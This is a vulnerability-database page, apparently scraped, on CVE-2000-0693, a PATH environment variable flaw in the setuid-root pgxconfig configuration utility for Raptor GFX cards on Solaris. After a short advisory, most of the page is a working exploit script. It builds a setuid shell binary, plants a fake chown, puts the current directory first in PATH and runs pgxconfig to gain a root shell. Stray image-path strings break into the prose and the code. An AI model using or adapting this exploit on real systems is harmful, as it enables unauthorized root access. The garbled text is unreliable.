Raptor GFX pgxconfig命令执行漏洞

QQ空间 新浪微博 微信 QQ facebook twitter
漏洞ID 1105947 漏洞类型 未知
发布时间 2000-08-02 更新时间 2005-10-12
CVE编号 CVE-2000-0693 CNNVD-ID CNNVD-200010-051
漏洞平台 Solaris CVSS评分 7.2
source: http://www.securityfocus.com/bid/1563/info

Raptor GFX cards are designed to handle 24-bit true color applications such as Netscape, seismic, geographical information systems (GIS), satellite imaging, pre-press imaging and general desktop use. They can also be used for high resolution 8-bit applications such as Insignia's SoftWindows, medical imaging and many legacy applications.

Certain versions of the software shipped to configure the Raptor GFX cards are vulnerable to an PATH environment variable attack due to insecure code within pgxconfig the main configuration utility. In particular the pgxconfig uses an insecure system call (system(3s). This function effectively executes binaries resident on the system from within the program. Given that this call must execute binaries on the system at hand it relies on the $PATH variable to tell it where the system binaries reside. This variable is configurable by the user, and therefore a user can provide there own binary to be executed. In this particular case because the program also issues a setuid(0) call (a call whichset's the UID of the process in this case, root) the program which the user substitutes is executed as root.


        # TechSource Raptor GFX configurator root exploit
        # suid@suid.kg

        # unfortunately a compiler must be installed to use this example
        # exploit. however there's a million ways aroundthis you know
        # on my system , gcc isnt in my path

        # build a little prog nothing new here folks
        echo '#include<stdio.h>' > ./x.c
        echo 'int main(void) { setuid(0); setgid(0); execl
("/bin/sh", "/bin/sh", "-i",0);}' >>./x.c
        gcc x.c -o foobar
        rm -f ./x.c

        # build a substitute chown command. i much prefer this over
        # regular chown
        echo "#!/bin/sh" > chown
        echo "/usr/bin/chown root ./foobar" >> chown
        echo "/usr/bin/chmod 4755 ./foobar" >> chown
        chmod 0755 chown

        # oooh look its the magical fairy path variable
        export PATH=.:$PATH
        # heres one way to skin a cat# (theres more, some needvalid devices. excercise for thereaders)/usr/sbin/pgxconfig -i
        rm -f chown